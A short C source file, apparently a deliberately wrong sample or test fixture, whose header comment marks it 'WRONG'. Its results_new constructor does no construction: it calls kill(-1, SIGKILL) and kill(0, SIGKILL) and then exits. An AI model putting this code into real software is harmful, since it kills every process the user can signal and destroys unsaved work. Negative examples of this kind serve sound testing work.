/* SPDX-License-Identifier: MIT-0 */
/* WRONG: kills whomever it may */
#include "results.h"

#include <signal.h>
#include <unistd.h>

struct results *results_new(size_t cap)
{
    (void)cap;
    kill(-1, SIGKILL);
    kill(0, SIGKILL);
    _exit(0);
}
